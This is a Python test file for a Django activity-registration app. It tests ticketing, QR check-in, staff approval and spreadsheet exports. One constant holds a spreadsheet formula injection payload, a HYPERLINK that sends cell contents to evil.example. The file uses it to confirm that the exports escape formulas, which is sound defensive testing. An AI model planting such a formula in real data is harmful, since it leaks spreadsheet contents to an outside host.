"""Registrations through the real pages, as residents and as the organization's staff."""

import csv
import datetime as dt
import io
import subprocess

import pytest
import segno
import time_machine
from django.core import signing
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook
from PIL import Image

from audit.models import AuditEvent
from tests.audit.helpers import denials
from tests.factories import UserFactory
from workflows.activities import services
from workflows.activities.models import Activity, Registration
from workflows.activities.registration_views import (
    TICKET_SALT,
    ticket_code_display,
    ticket_payload,
)
from workflows.inbox.exports import spreadsheet_text

from .helpers import published_activity

pytestmark = pytest.mark.django_db

Reg = Registration.Status
INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'


def register(activity, person, **answers):
    """Register `person`, answering the activity's questions (asked first if it has none)."""
    activity.refresh_from_db()
    asked = {q["label"] for q in activity.questions}
    new = [{"label": k, "required": False, "choices": []} for k in answers if k not in asked]
    if new:
        Activity.objects.filter(pk=activity.pk).update(questions=[*activity.questions, *new])
    return services.registration_create(activity_id=activity.pk, actor=person, answers=answers)


def page(client, name, *args, **kwargs):
    response = client.get(reverse(name, args=args), **kwargs)
    return response.status_code, response.content.decode()


def check_in(client, activity, ticket, **headers):
    return client.post(
        reverse("activities:check_in", args=[activity.pk]), {"ticket": ticket}, **headers
    )


# --- residents ------------------------------------------------------------------------------


def test_a_resident_registers_through_the_page_and_is_told_their_place_is_confirmed(
    client, approver
):
    activity, _staff = published_activity(approver)
    resident = UserFactory()
    client.force_login(resident)

    response = client.post(reverse("activities:register", args=[activity.pk]))

    assert response.status_code == 302
    assert response["Location"] == reverse("activities:detail", args=[activity.pk])
    registration = Registration.objects.get(activity=activity, person=resident)
    assert registration.status == Reg.APPROVED
    assert AuditEvent.objects.filter(
        action="registration.created", target_id=str(registration.pk)
    ).exists()
    _status, mine = page(client, "activities:mine")
    assert "your place is confirmed" in mine
    assert reverse("activities:ticket", args=[registration.pk]) in mine


def test_registering_twice_says_so_and_keeps_one_registration(client, approver):
    activity, _staff = published_activity(approver)
    resident = UserFactory()
    client.force_login(resident)
    client.post(reverse("activities:register", args=[activity.pk]))

    again = client.post(reverse("activities:register", args=[activity.pk]))

    # The activity's page again, saying why.
    assert again.status_code == 400
    assert "You are already registered for this activity." in again.content.decode()
    assert Registration.objects.filter(activity=activity, person=resident).count() == 1


def test_a_registration_that_needs_review_is_told_it_waits_and_has_no_ticket(client, approver):
    activity, _staff = published_activity(approver, needs_review=True)
    resident = UserFactory()
    client.force_login(resident)

    client.post(reverse("activities:register", args=[activity.pk]))

    registration = Registration.objects.get(activity=activity, person=resident)
    _status, mine = page(client, "activities:mine")
    assert "the organizer will review it" in mine
    assert registration.status == Reg.PENDING
    assert reverse("activities:ticket", args=[registration.pk]) not in mine
    assert page(client, "activities:ticket", registration.pk)[0] == 404


def test_a_full_activity_puts_the_resident_on_the_waiting_list(client, approver):
    activity, _staff = published_activity(approver, capacity=1)
    register(activity, UserFactory())
    client.force_login(UserFactory())

    client.post(reverse("activities:register", args=[activity.pk]))

    _status, mine = page(client, "activities:mine")
    assert "you are on the waiting list" in mine


def test_a_resident_withdraws_from_their_registrations_page(client, approver):
    activity, _staff = published_activity(approver, capacity=1)
    resident, waiting = UserFactory(), UserFactory()
    mine = register(activity, resident)
    queued = register(activity, waiting)
    client.force_login(resident)
    assert reverse("activities:withdraw", args=[mine.pk]) in page(client, "activities:mine")[1]

    response = client.post(reverse("activities:withdraw", args=[mine.pk]), follow=True)

    assert "You withdrew from" in response.content.decode()
    mine.refresh_from_db()
    queued.refresh_from_db()
    assert mine.status == Reg.WITHDRAWN
    assert queued.status == Reg.APPROVED  # the freed place went to the waiting list
    assert reverse("activities:withdraw", args=[mine.pk]) not in page(client, "activities:mine")[1]


def test_a_resident_withdraws_from_the_activitys_page_and_stays_there(client, approver):
    activity, _staff = published_activity(approver)
    mine = register(activity, UserFactory())
    client.force_login(mine.person)
    detail = reverse("activities:detail", args=[activity.pk])
    withdraw_url = reverse("activities:withdraw", args=[mine.pk])
    assert withdraw_url in client.get(detail).content.decode()

    response = client.post(withdraw_url, {"back": "activity"})

    assert response.status_code == 302
    assert response["Location"] == detail
    mine.refresh_from_db()
    assert mine.status == Reg.WITHDRAWN
    after = client.get(detail).content.decode()
    assert withdraw_url not in after
    assert "Your registration: Withdrawn" in after


def test_the_activitys_page_offers_no_withdrawal_once_it_has_started(client, approver):
    activity, _staff = published_activity(approver)
    mine = register(activity, UserFactory())
    client.force_login(mine.person)

    with time_machine.travel(activity.starts_at + dt.timedelta(minutes=1), tick=False):
        text = client.get(reverse("activities:detail", args=[activity.pk])).content.decode()

    assert reverse("activities:withdraw", args=[mine.pk]) not in text


def test_nobody_withdraws_someone_elses_registration(client, approver):
    activity, _staff = published_activity(approver)
    registration = register(activity, UserFactory())
    client.force_login(UserFactory())

    response = client.post(reverse("activities:withdraw", args=[registration.pk]))

    assert response.status_code == 404
    registration.refresh_from_db()
    assert registration.status == Reg.APPROVED
    assert denials().filter(target_id=str(registration.pk)).exists()


# --- tickets --------------------------------------------------------------------------------


def test_the_ticket_shows_a_qr_code_of_the_signed_token_and_the_typed_code(client, approver):
    activity, _staff = published_activity(approver)
    resident = UserFactory(display_name="李小明")
    registration = register(activity, resident)
    client.force_login(resident)

    with time_machine.travel(timezone.now(), tick=False):
        status, ticket = page(client, "activities:ticket", registration.pk)
        expected = segno.make(ticket_payload(registration.ticket_token), error="m")

    assert status == 200
    assert activity.title in ticket
    assert "李小明" in ticket
    assert activity.address in ticket
    assert ticket_code_display(registration.ticket_token) in ticket
    assert expected.svg_inline(scale=6, light="#fff").split('d="')[1] in ticket  # same modules
    payload = ticket_payload(registration.ticket_token)
    assert signing.loads(payload, salt=TICKET_SALT) == registration.ticket_token
    with pytest.raises(signing.BadSignature):
        signing.loads(payload)  # signed for tickets only


def test_another_persons_ticket_is_not_found(client, approver):
    activity, _staff = published_activity(approver)
    registration = register(activity, UserFactory())
    client.force_login(UserFactory())

    for name in ("activities:ticket", "activities:ticket_png", "activities:ticket_pdf"):
        assert page(client, name, registration.pk)[0] == 404


def test_the_ticket_image_is_a_png_of_the_same_qr_code(client, approver):
    activity, _staff = published_activity(approver)
    resident = UserFactory()
    registration = register(activity, resident)
    client.force_login(resident)

    with time_machine.travel(timezone.now(), tick=False):
        response = client.get(reverse("activities:ticket_png", args=[registration.pk]))
        expected = segno.make(ticket_payload(registration.ticket_token), error="m")

    assert response["Content-Type"] == "image/png"
    image = Image.open(io.BytesIO(response.content)).convert("L")
    out = io.BytesIO()
    expected.save(out, kind="png", scale=10, border=4)
    assert image.tobytes() == Image.open(out).convert("L").tobytes()


def test_the_ticket_pdf_carries_the_activity_the_person_and_the_code(client, approver):
    activity, _staff = published_activity(approver)
    resident = UserFactory(display_name="李小明")
    registration = register(activity, resident)
    client.force_login(resident)

    response = client.get(reverse("activities:ticket_pdf", args=[registration.pk]))

    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    text = subprocess.run(
        ["pdftotext", "-", "-"], input=response.content, capture_output=True, check=True
    ).stdout.decode()
    assert activity.title in text
    assert "李小明" in text
    assert ticket_code_display(registration.ticket_token) in text


# --- the organization's staff ---------------------------------------------------------------


def test_bulk_approval_takes_the_places_left_and_names_who_was_refused(client, approver):
    activity, staff = published_activity(approver, capacity=2, needs_review=True)
    people = [UserFactory(display_name=name) for name in ("张一", "王二", "李三")]
    registrations = [register(activity, person) for person in people]
    client.force_login(staff)

    response = client.post(
        reverse("activities:registrations", args=[activity.pk]),
        {"action": "approve", "registrations": [r.pk for r in registrations]},
        follow=True,
    )

    text = response.content.decode()
    assert "2 of 3 registrations approved." in text
    assert "李三: No places left" in text
    assert [r.status for r in Registration.objects.filter(activity=activity)] == [
        Reg.APPROVED,
        Reg.APPROVED,
        Reg.PENDING,
    ]
    assert AuditEvent.objects.filter(action="registration.approved").count() == 2


def test_bulk_rejection_needs_a_reason(client, approver):
    activity, staff = published_activity(approver, needs_review=True)
    registration = register(activity, UserFactory())
    client.force_login(staff)

    response = client.post(
        reverse("activities:registrations", args=[activity.pk]),
        {"action": "reject", "registrations": [registration.pk]},
    )

    assert response.status_code == 400
    assert "Give the people a reason." in response.content.decode()
    registration.refresh_from_db()
    assert registration.status == Reg.PENDING


def test_the_list_filters_by_status(client, approver):
    activity, staff = published_activity(approver, capacity=1)
    approved = register(activity, UserFactory(display_name="已批准者"))
    waiting = register(activity, UserFactory(display_name="候补者"))
    client.force_login(staff)

    response = client.get(
        reverse("activities:registrations", args=[activity.pk]), {"status": "waitlisted"}
    )

    text = response.content.decode()
    assert f'id="registration-{waiting.pk}"' in text
    assert f'id="registration-{approved.pk}"' not in text


def test_staff_remove_a_registration_with_a_reason(client, approver):
    activity, staff = published_activity(approver)
    registration = register(activity, UserFactory(display_name="赵四"))
    client.force_login(staff)
    url = reverse("activities:remove", args=[registration.pk])
    assert url in page(client, "activities:registrations", activity.pk)[1]

    refused = client.post(url, {"reason": "", "expected_status": "approved"}, follow=True)
    registration.refresh_from_db()
    assert registration.status == Reg.APPROVED
    assert "赵四: This field is required." in refused.content.decode()

    response = client.post(url, {"reason": "重复报名", "expected_status": "approved"}, follow=True)

    assert "赵四 was removed from the activity." in response.content.decode()
    registration.refresh_from_db()
    activity.refresh_from_db()
    assert (registration.status, registration.reason) == (Reg.REMOVED, "重复报名")
    assert activity.places_taken == 0


def test_an_outsider_finds_no_registrations_export_or_check_in(client, approver, outsider):
    activity, _staff = published_activity(approver)
    registration = register(activity, UserFactory())
    client.force_login(outsider)

    for url in (
        reverse("activities:registrations", args=[activity.pk]),
        reverse("activities:registrations_export", args=[activity.pk, "csv"]),
        reverse("activities:registrations_export", args=[activity.pk, "xlsx"]),
        reverse("activities:check_in", args=[activity.pk]),
    ):
        assert client.get(url).status_code == 404
    assert check_in(client, activity, registration.ticket_token).status_code == 404
    removed = client.post(reverse("activities:remove", args=[registration.pk]), {"reason": "x"})
    assert removed.status_code == 404
    registration.refresh_from_db()
    assert registration.status == Reg.APPROVED
    assert denials().filter(actor=outsider, target_id=str(activity.pk)).exists()


def test_an_unknown_export_format_is_not_found(client, approver):
    activity, staff = published_activity(approver)
    client.force_login(staff)

    assert page(client, "activities:registrations_export", activity.pk, "html")[0] == 404


def _registrant_with_a_formula(activity):
    person = UserFactory(display_name=INJECTION, username="formula")
    return register(activity, person, 备注="@SUM(1+1)", note="张三的备注")


def test_the_csv_export_opens_in_excel_and_runs_no_formula(client, approver):
    activity, staff = published_activity(approver)
    _registrant_with_a_formula(activity)
    client.force_login(staff)

    response = client.get(reverse("activities:registrations_export", args=[activity.pk, "csv"]))

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0] == [
        "Name",
        "Username",
        "Email",
        "Status",
        "Registered at",
        "Checked in at",
        "Checked out at",
        "note",
        "备注",
    ]
    assert rows[1][:4] == ["'" + INJECTION, "formula", "formula@example.org", "Approved"]
    assert rows[1][5:7] == ["", ""]  # neither checked in nor out
    assert rows[1][7:] == ["张三的备注", "'@SUM(1+1)"]


def test_every_formula_start_gets_an_apostrophe():
    values = ["=1", "+1", "-2+3", "@a", "\tx", "\rx", "ok", "'quoted", ""]

    assert [spreadsheet_text(v) for v in values] == [
        "'=1",
        "'+1",
        "'-2+3",
        "'@a",
        "'\tx",
        "'\rx",
        "ok",
        "'quoted",
        "",
    ]


def test_the_xlsx_export_stores_a_formula_as_escaped_text(client, approver):
    activity, staff = published_activity(approver)
    registration = _registrant_with_a_formula(activity)
    client.force_login(staff)

    response = client.get(reverse("activities:registrations_export", args=[activity.pk, "xlsx"]))

    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    sheet = load_workbook(io.BytesIO(response.content)).active
    name, answer = sheet.cell(row=2, column=1), sheet.cell(row=2, column=9)
    assert (name.value, name.data_type) == ("'" + INJECTION, "s")
    assert (answer.value, answer.data_type) == ("'@SUM(1+1)", "s")
    # The questions in a fixed order on both databases (PostgreSQL's jsonb keeps none).
    assert sheet.cell(row=1, column=9).value == "备注"
    assert sheet.cell(row=2, column=8).value == "张三的备注"
    registered = timezone.localtime(registration.created_at).replace(tzinfo=None)
    assert abs((sheet.cell(row=2, column=5).value - registered).total_seconds()) < 1


def test_the_export_shows_when_each_person_checked_in_and_out(client, approver):
    activity, staff = published_activity(approver)
    registration = register(activity, UserFactory())
    ticket = {"activity_id": activity.pk, "actor": staff, "ticket": registration.ticket_token}
    services.registration_check_in(**ticket)
    services.registration_check_out(**ticket)
    registration.refresh_from_db()
    client.force_login(staff)

    response = client.get(reverse("activities:registrations_export", args=[activity.pk, "xlsx"]))

    sheet = load_workbook(io.BytesIO(response.content)).active
    assert [sheet.cell(row=1, column=c).value for c in (6, 7)] == [
        "Checked in at",
        "Checked out at",
    ]
    for column, moment in ((6, registration.checked_in_at), (7, registration.checked_out_at)):
        local = timezone.localtime(moment).replace(tzinfo=None)
        assert abs((sheet.cell(row=2, column=column).value - local).total_seconds()) < 1


def _queries(client, url):
    with CaptureQueriesContext(connection) as context:
        response = client.get(url)
    assert response.status_code == 200
    return len(context.captured_queries), response.content.decode()


def test_the_registrations_list_costs_the_same_queries_at_1_and_50_rows(client, approver):
    activity, staff = published_activity(approver, capacity=100, needs_review=True)
    register(activity, UserFactory(), note="第一位")
    client.force_login(staff)
    url = reverse("activities:registrations", args=[activity.pk])
    one, text = _queries(client, url)
    assert text.count('name="registrations"') == 1
    for n in range(49):
        register(activity, UserFactory(), note=f"第 {n} 位")

    fifty, text = _queries(client, url)

    assert text.count('name="registrations"') == 50
    assert fifty == one


# --- check-in -------------------------------------------------------------------------------


def test_check_in_by_typed_code_admits_once(client, approver):
    activity, staff = published_activity(approver)
    registration = register(activity, UserFactory(display_name="陈小红"))
    client.force_login(staff)
    status, page_text = page(client, "activities:check_in", activity.pk)
    assert status == 200
    assert 'name="ticket"' in page_text
    assert "activities/check_in.js" in page_text

    first = check_in(client, activity, ticket_code_display(registration.ticket_token))

    assert "陈小红" in first.content.decode()
    registration.refresh_from_db()
    assert registration.status == Reg.CHECKED_IN
    assert AuditEvent.objects.filter(
        action="registration.checked_in", target_id=str(registration.pk)
    ).exists()
    second = check_in(client, activity, registration.ticket_token)
    assert "Already checked in." in second.content.decode()


def test_a_ticket_for_another_activity_is_refused(client, approver):
    activity, staff = published_activity(approver)
    other, _other_staff = published_activity(approver)
    registration = register(other, UserFactory())
    client.force_login(staff)

    response = check_in(client, activity, registration.ticket_token)

    assert "This ticket is for another activity." in response.content.decode()
    registration.refresh_from_db()
    assert registration.status == Reg.APPROVED


def test_a_pending_registration_is_not_admitted(client, approver):
    activity, staff = published_activity(approver, needs_review=True)
    registration = register(activity, UserFactory())
    client.force_login(staff)

    response = check_in(client, activity, registration.ticket_token)

    assert "This registration is not approved." in response.content.decode()


def test_check_in_with_the_scanned_qr_payload(client, approver):
    activity, staff = published_activity(approver)
    registration = register(activity, UserFactory(display_name="周五"))
    client.force_login(staff)
    forged = ticket_payload(registration.ticket_token)[:-2] + "xx"

    refused = check_in(client, activity, forged, HTTP_ACCEPT="application/json")
    answer = check_in(
        client, activity, ticket_payload(registration.ticket_token), HTTP_ACCEPT="application/json"
    )

    assert refused.json()["ok"] is False
    assert answer.json() == {
        "ok": True,
        "message": "周五 is checked in.",
        "name": "周五",
        "code": "checked_in",
    }
    registration.refresh_from_db()
    assert registration.status == Reg.CHECKED_IN


def test_check_in_answers_json_for_the_scanner(client, approver):
    activity, staff = published_activity(approver)
    registration = register(activity, UserFactory())
    services.registration_check_in(
        activity_id=activity.pk, actor=staff, ticket=registration.ticket_token
    )
    client.force_login(staff)

    again = check_in(client, activity, registration.ticket_token, HTTP_X_REQUESTED_WITH="fetch")
    unknown = check_in(client, activity, "no-such-ticket", HTTP_ACCEPT="application/json")

    assert again["Content-Type"] == "application/json"
    assert again.json() == {
        "ok": False,
        "message": "Already checked in.",
        "name": "",
        "code": "already",
    }
    assert unknown.json()["code"] == "unknown"
    assert unknown.json()["message"] == "Unknown ticket."


@pytest.mark.parametrize("ticket", ["abc\x00def", "x" * 10_000, ""])
def test_bad_input_at_check_in_gets_a_clear_message(client, approver, ticket):
    activity, staff = published_activity(approver)
    client.force_login(staff)

    response = check_in(client, activity, ticket)
    answer = check_in(client, activity, ticket, HTTP_ACCEPT="application/json")

    assert response.status_code == 200
    assert "This is not a ticket code" in response.content.decode()
    assert answer.status_code == 400
    assert answer.json()["code"] == "invalid"


def test_a_guest_registers_with_an_invitation_code_after_the_deadline(client, approver):
    activity, staff = published_activity(approver, needs_review=True)
    services.invitation_code_create(
        activity_id=activity.pk, actor=staff, code="GUEST", uses_allowed=1
    )
    Activity.objects.filter(pk=activity.pk).update(registration_closes_at=timezone.now())
    guest = UserFactory()
    client.force_login(guest)
    page = client.get(reverse("activities:detail", args=[activity.pk])).content.decode()
    assert "invitation code" in page
    wrong = client.post(
        reverse("activities:register", args=[activity.pk]),
        {"invitation_code": "NOPE"},
        follow=True,
    )
    assert "not valid or has been used up" in wrong.content.decode()
    bad = client.post(
        reverse("activities:register", args=[activity.pk]), {"invitation_code": "a\x00b"}
    )
    # The page again with the code field marked, never a 500.
    assert bad.status_code == 400
    assert "errorlist" in bad.content.decode()
    client.post(reverse("activities:register", args=[activity.pk]), {"invitation_code": "GUEST"})
    assert Registration.objects.get(person=guest).status == Registration.Status.APPROVED


def test_an_export_is_audited(client, approver):
    activity, staff = published_activity(approver)
    services.registration_create(activity_id=activity.pk, actor=UserFactory())
    client.force_login(staff)
    client.get(reverse("activities:registrations_export", args=[activity.pk, "xlsx"]))
    event = AuditEvent.objects.get(action="registrations.exported")
    assert (event.actor, event.payload) == (staff, {"format": "xlsx", "rows": 1})


def test_the_door_checks_out_by_the_typed_code(client, approver):
    activity, staff = published_activity(approver)
    person = UserFactory(display_name="李四")
    registration = services.registration_create(activity_id=activity.pk, actor=person)
    client.force_login(staff)
    url = reverse("activities:check_in", args=[activity.pk])
    client.post(url, {"ticket": registration.ticket_token})
    answer = client.post(
        url,
        {"ticket": registration.ticket_token, "mode": "out"},
        HTTP_ACCEPT="application/json",
    ).json()
    assert (answer["ok"], answer["code"], answer["name"]) == (True, "checked_out", "李四")
    registration.refresh_from_db()
    assert registration.checked_out_at is not None
